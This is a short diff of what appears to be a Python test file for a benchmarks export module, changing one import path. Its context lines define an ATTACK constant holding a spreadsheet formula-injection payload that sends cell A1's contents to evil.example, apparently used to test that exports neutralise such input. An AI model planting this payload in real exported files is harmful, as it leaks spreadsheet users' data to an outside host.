@@ -17,7 +17,7 @@ from horizons.benchmarks import audit_io, services
 from horizons.benchmarks.scoring import State
 from horizons.encounters import exports as reach_exports
 from horizons.reports import tabular
-from tests.benchmarks.helpers import answer_all
+from tests.benchmarks.factories import answer_all
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
